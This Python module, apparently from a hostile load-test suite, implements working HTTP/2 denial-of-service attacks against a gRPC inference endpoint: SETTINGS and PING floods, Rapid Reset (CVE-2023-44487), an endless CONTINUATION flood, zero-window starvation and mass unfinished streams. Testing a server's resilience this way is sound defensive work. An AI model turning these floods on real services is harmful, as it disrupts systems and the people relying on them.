"""How is HTTP/2 abused, client by client?"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable

from hpack import Encoder

from loadtests.hostile.attack import Client
from loadtests.hostile.models import WIDE, WIDTH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADER = struct.Struct(">BHBBI")
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
STREAMS = 4000
ANSWERED_S = 1.0
BURST = 400
BURST_EVERY_S = 0.25


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return a whole frame."""
    return HEADER.pack(len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream) + payload


def settings(**values: int) -> bytes:
    """Return a SETTINGS frame of `_NUMBER=value`."""
    pairs = b"".join(struct.pack(">HI", int(name[1:]), value) for name, value in values.items())
    return frame(SETTINGS, 0, 0, pairs)


HELLO = PREFACE + settings(_2=0)
BLOCK = Encoder().encode(
    [
        (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
        (":authority", "t"), ("te", "trailers"), ("content-type", "application/grpc"),
    ]
)  # fmt: skip


def _field(number: int, content: bytes) -> bytes:
    """Return a field of Protocol Buffers with content of up to 127 bytes."""
    return bytes((number << 3 | 2, len(content))) + content


def wide() -> bytes:
    """Return the gRPC message that asks for an answer of 4 MiB."""
    tensor = _field(1, b"x") + _field(2, b"FP32") + _field(3, bytes((1, WIDTH)))
    message = _field(1, WIDE.encode()) + _field(5, tensor) + _field(7, bytes(4 * WIDTH))
    return b"\0" + struct.pack(">I", len(message)) + message


async def _bursts(client: Client, hello: bytes, burst: Callable[[int], bytes]) -> None:
    """Send a burst several times a second, for as long as it is borne."""
    await client.connect(client.grpc)
    await client.send(hello)
    await client.receive()
    client.placed = True
    reading = asyncio.ensure_future(client.drain())
    try:
        number = 0
        while not reading.done():
            await client.send(burst(number))
            client.seen["sent"] += BURST
            number += 1
            await asyncio.sleep(BURST_EVERY_S)
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


async def settings_flood(client: Client) -> None:
    """Send SETTINGS, each of which wants to be acknowledged."""
    await _bursts(client, HELLO, lambda _number: settings(_3=100, _4=70_000, _5=16_384) * BURST)


async def ping_flood(client: Client) -> None:
    """Send PINGs, each of which wants to be answered."""
    await _bursts(client, HELLO, lambda _number: frame(PING, 0, 0, bytes(8)) * BURST)


async def rapid_reset(client: Client) -> None:
    """Begin requests, and reset each at once (CVE-2023-44487)."""

    def burst(number: int) -> bytes:
        first = 1 + 2 * BURST * number
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(first, first + 2 * BURST, 2)
        )

    await _bursts(client, HELLO, burst)


async def continuation(client: Client) -> None:
    """Begin a head, and never end it (CVE-2024-27316 and others)."""

    def burst(number: int) -> bytes:
        opening = frame(HEADERS, 0, 1, BLOCK) if not number else b""
        return opening + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * BURST

    await _bursts(client, HELLO, burst)


async def zero_window(client: Client) -> None:
    """Ask for answers of 4 MiB on streams that leave no room for them."""
    await client.connect(client.grpc)
    asked = wide()
    calls = b"".join(
        frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(DATA, END_STREAM, stream, asked)
        for stream in range(1, 17, 2)
    )
    await client.send(PREFACE + settings(_4=0) + calls)
    await asyncio.sleep(ANSWERED_S)
    client.placed = True
    await client.drain()


async def many_streams(client: Client) -> None:
    """Begin thousands of streams, and end none."""
    await client.connect(client.grpc)
    await client.send(HELLO)
    await client.receive()
    calls = b"".join(frame(HEADERS, END_HEADERS, stream, BLOCK) for stream in range(1, 2 * STREAMS, 2))
    client.seen["sent"] += STREAMS
    await client.send(calls)
    client.placed = True
    await client.drain()
